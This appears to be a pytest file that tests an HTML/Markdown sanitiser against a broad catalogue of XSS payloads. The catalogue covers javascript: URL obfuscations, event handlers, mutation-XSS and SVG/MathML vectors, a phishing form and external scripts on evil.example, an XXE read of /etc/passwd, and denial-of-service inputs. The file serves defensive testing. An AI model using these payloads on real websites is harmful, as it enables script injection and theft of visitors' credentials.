"""The sanitiser against a list of attacks: what comes out is read as a browser would read it and holds only what is allowed."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from attestation.site.markup import Target, as_typed, html

from ..inspection import VOID, read

TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "div", "section", "blockquote", "pre", "hr", "br"),
    *("ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tfoot", "tr", "th", "td"),
    *("a", "abbr", "b", "code", "del", "em", "i", "img", "ins", "kbd", "q", "s", "small", "strong", "sub", "sup"),
}
ATTRIBUTES = {
    *("id", "lang", "title", "href", "class", "rel", "src", "alt", "width", "height", "srcset", "sizes", "loading", "decoding"),
    *("start", "align", "colspan", "rowspan", "scope", "role", "tabindex", "aria-label"),
}
SCHEMES = {"", "http", "https", "mailto", "tel"}


class _Reader(HTMLParser):
    """Elements with their attributes, however deep, and mistakes of the writing."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in VOID:
            self.open.append(tag)
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        if len({name for name, _ in attrs}) < len(attrs):
            self.found.append(f"<{tag}> with an attribute twice")
        for name, value in attrs:
            addresses = [part.strip() for part in (value or "").split(",")] if name == "srcset" else []
            carries = name in {"href", "src"} and _scheme(value or "") not in SCHEMES
            foreign = any(not address.startswith("/") or address.startswith("//") for address in addresses)
            if name not in ATTRIBUTES or carries or foreign:
                self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")


def wrong(made: str) -> list[str]:
    """What stands in the HTML and must not."""
    reader = _Reader()
    reader.feed(made)
    reader.close()
    return [*reader.found, *(f"<{tag}> is not closed" for tag in reader.open)]


def _scheme(address: str) -> str:
    """As browsers read it: control signs before it, and line ends and tabs anywhere, do not count."""
    return urlsplit(re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))).scheme.lower()


ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjava\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "&#106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "java\x00script:alert(1)",
    "&#1;javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "ftp://example.org/a",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "ws://example.org/",
    "intent://example.org#Intent;end",
    "node:javascript:alert(1)",
    "node:1:javascript:alert(1)",
    'node:17" onclick="alert(1)',
    'node:17#"><script>alert(1)</script>',
    "NODE:17",
    "node://17",
    "node:-1",
    "node:99999999999999999999999",
    "node:١٧",
    "node:",
)
HOLDERS = (
    "[слово]({})",
    "[слово](<{}>)",
    '[слово]({} "title")',
    "[слово][о]\n\n[о]: {}",
    "[слово][о]\n\n[о]: <{}>",
    "![слово]({})",
    "![слово][о]\n\n[о]: {}",
    "<{}>",
    '<a href="{}">слово</a>',
    "<a href='{}'>слово</a>",
    "<a href={}>слово</a>",
    '<A HREF="{}">слово</A>',
    '<img src="{}" alt="слово">',
    '<img srcset="{} 1x" alt="слово">',
    '<a xlink:href="{}">слово</a>',
    '<blockquote cite="{}">слово</blockquote>',
    '<q cite="{}">слово</q>',
    '<del cite="{}">слово</del>',
    '<table background="{}"><tr><td background="{}">слово</td></tr></table>',
    '<img longdesc="{}" lowsrc="{}" dynsrc="{}" alt="слово">',
    '<a href="/" ping="{}">слово</a>',
    "слово\n{{: href={} }}",
    "[слово](/){{: href={} }}",
    "![слово](/a.png){{: src={} }}",
    "[^1]\n\n[^1]: [слово]({})",
    "*[слово]: {}\n\nслово",
    "|[а]({})|\n|-|\n|![б]({})|",
    '!!! note "{}"\n    [слово]({})',
)


@pytest.mark.parametrize("holder", HOLDERS)
@pytest.mark.parametrize("address", ADDRESSES)
def test_no_address_carries_code(address: str, holder: str) -> None:
    assert wrong(html(holder.replace("{}", address).replace("{{", "{").replace("}}", "}"))) == []


ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=x></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "    <script>alert(1)</script>\n\n<script>alert(2)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)" alt="">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img src="x`><script>alert(1)</script>">',
    '<img """><script>alert(1)</script>">',
    "<img src='x' alt='\"><script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)' onfocus=alert(1) tabindex=1 autofocus>x</div>",
    "<p onclick\x0c=alert(1)>x</p>",
    "<a href=/ onclick=alert(1)//>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'></select>",
    "<table><td background='javascript:alert(1)'><tr><script>alert(1)</script></table>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?import namespace='x' implementation='#default#time2'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=import href=data:text/html,x>",
    "<form action='https://evil.example/'><input name=password><button>Войти</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<portal src=https://evil.example/></portal>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<p style=x:exp/**/ression(alert(1))>x</p>",
    "<font color=red><center><blink>x</blink></center></font>",
    "<a href=/ target=_blank download rel=opener>x</a>",
    "<a name=getElementById id=createElement>x</a>",
    "<div contenteditable draggable=true accesskey=x data-x=1 is=x slot=x part=x>x</div>",
    "<div role=dialog aria-modal=true aria-label=Вход tabindex=5>x</div>",
    "<img src=/a.png srcset='//evil.example/x 1w, data:x 2w' sizes=expression(alert(1)) loading=eager usemap=#x ismap>",
    "<map name=x><area href=javascript:alert(1)></map>",
    "текст\n{: onclick=alert(1) style=position:fixed }",
    "# Заголовок {: onclick=alert(1) id=main }",
    "[слово](/){: onclick='alert(1)' style='x' target=_blank }",
    "*слово*{: onmouseover=alert(1) }",
    "![слово](/a.png){: onerror=alert(1) srcset='https://evil.example/x 1w' }",
    "- пункт\n{: onclick=alert(1) }",
    "|а|\n|-|\n|б {: onclick=alert(1) }|",
    "[слово](/ \"<script>alert(1)</script>\")",
    "[слово](/ '\" onclick=\"alert(1)')",
    "![\" onerror=\"alert(1)](/a.png)",
    "![<script>alert(1)</script>](/a.png)",
    "[<img src=x onerror=alert(1)>](/)",
    "[a](<javascript:alert(1)>)",
    "[a](/)\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://example.org/\"onclick=alert(1)>",
    "<mailto:a@b.example\"onclick=alert(1)>",
    "!!! note\" onclick=\"alert(1)\n    x",
    "!!! <script>alert(1)</script>\n    x",
    "!!! note \"<script>alert(1)</script>\"\n    x",
    "[^<script>]\n\n[^<script>]: alert(1)",
    "[^\"onclick=]\n\n[^\"onclick=]: x",
    "*[x]: \" onclick=\"alert(1)\n\nx",
    "# <script>alert(1)</script>",
    "# \"><img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03\x02klzzwxh:0\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<a href=\"/\" title=\"</a><script>alert(1)</script>\">x</a>",
    "<b><i><a href=/>x</b></i><p><div></p></a></div>",
    "<b " * 50 + ">x",
    "<table><table><table><tr><tr><td><p></table><script>alert(1)</script>",
    "<ul><li><ul><li></ul></ul></li></ul></div></p></blockquote>",
    "\x00<\x00s\x00c\x00r\x00i\x00p\x00t>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<div id=main></div><div id=top></div>",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_text_gets_out(attack: str) -> None:
    assert wrong(html(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_is_there_anything_beside_or_inside_other_elements(attack: str) -> None:
    for holder in ("до {} после", "- {}", "> {}", "|а|\n|-|\n|{}|", "# {}", "<div>{}</div>", "<b>{}", "слово[^1]\n\n[^1]: {}"):
        assert wrong(html(holder.replace("{}", attack))) == []


@pytest.mark.parametrize("attack", [*ATTACKS, *(f"[слово]({address})" for address in ADDRESSES)])
def test_the_reading_of_a_text_is_as_clean(attack: str) -> None:
    # A text that is examined keeps identities and the h1 that was typed.
    made = re.sub(r"(href|src)=\"node:[^\"]*\"", "", as_typed(attack), flags=re.IGNORECASE).replace("h1", "h2")
    assert wrong(made) == []


@pytest.mark.parametrize("address", ADDRESSES)
def test_what_a_reference_means_carries_no_code_either(address: str) -> None:
    def resolve(_reference: str) -> Target:
        return Target(address, "<script>", "<script>", 10, 10, ((f"{address}", 10), (address, 20)))

    for text in ("[слово](node:17)", "[](node:17)", "![слово](node:17)", '<a href="node:17">слово</a>', '<img src="node:17">'):
        assert wrong(html(text, resolve)) == []


@pytest.mark.parametrize("staff", [True, False])
def test_an_imitation_of_a_marked_link_is_taken_away_from_visitors(staff: bool) -> None:
    root, _ = read(html('<span class="broken-link" onclick="x">слово</span>', staff=staff))
    assert [(span.tag, span.attributes) for span in root.all("span")] == ([("span", {"class": "broken-link"})] if staff else [])


N = 60_000
HUGE = {
    "brackets": "[" * N,
    "pictures": "![" * (N // 2),
    "parentheses": "[a](" * (N // 4),
    "open address": "[a](" + "(" * N,
    "title": '[a](b "' * (N // 7),
    "lines of brackets": "[a\n" * (N // 3),
    "small brackets": ("[" * 99 + "\n\n") * (N // 101),
    "footnotes": "[^1]" * (N // 4) + "\n\n[^1]: a",
    "notes apart": "a[^1]\n\n" * (N // 7) + "[^1]: b",
    "many notes": "".join(f"[^{number}]: a\n" for number in range(15_000)),
    "definitions": "".join(f"[{number}]: https://example.org\n" for number in range(6_000)),
    "abbreviations": "".join(f"*[A{number}]: b\n" for number in range(13_000)) + "A1 " * 1_000,
    "one abbreviation": "*[A]: b\n" * (N // 8),
    "quotations": ">" * N,
    "spaced quotations": "> " * (N // 2) + "a",
    "stars": "*" * N,
    "open emphasis": "*a " * (N // 3),
    "strong and not": "**a *b " * (N // 7),
    "underscores": "_a" * (N // 2),
    "code": "`a" * (N // 2),
    "backslashes": "\\" * N,
    "entities": "&#x26;" * (N // 6),
    "ampersands": "&" * N,
    "less than": "<" * N,
    "open tags": "<a " * (N // 3),
    "open attributes": '<a href="' * (N // 9),
    "open addresses": "<http://" * (N // 8),
    "open mail": "<a@" * (N // 3),
    "open comments": "<!--" * (N // 4),
    "open data": "<![CDATA[" * (N // 9),
    "open instructions": "<?" * (N // 2),
    "open declarations": "<!a " * (N // 4),
    "blocks": "<div>" * (N // 5),
    "blocks on lines": "<div>\n" * (N // 6),
    "bold": "<b>" * (N // 3),
    "nested lists": "".join("    " * depth + "- a\n" for depth in range(300)),
    "numbered lists": "1. " * (N // 3),
    "items": "- a\n" * (N // 4),
    "items apart": "- a\n\n" * (N // 5),
    "headings": "# a\n" * (N // 4),
    "headings after words": "a\n# a\n" * (N // 6),
    "underlined": "a\n=\n" * (N // 4),
    "rules": "a\n***\n" * (N // 6),
    "notices": "!!! a\n" * (N // 6),
    "terms": ":   a\n" * (N // 6),
    "columns": "|" * N,
    "rows": "|a|b|\n|-|-|\n" + "|1|2|\n" * (N // 6),
    "attributes": "# a {:" + " a=b" * (N // 4) + "}",
    "open attribute lists": "a {: " * (N // 5),
    "spaces": "a" + " " * N + "b",
    "tabs": "\t" * N,
    "lines": "\n" * N,
    "nothing": "\0" * N,
    "placeholders": "\x02klzzwxh:0001\x03" * (N // 14),
    "one word": "ы" * N,
}


@pytest.mark.parametrize("name", HUGE)
def test_no_text_keeps_the_reader_busy_for_ever(name: str) -> None:
    assert wrong(html(HUGE[name])) == []
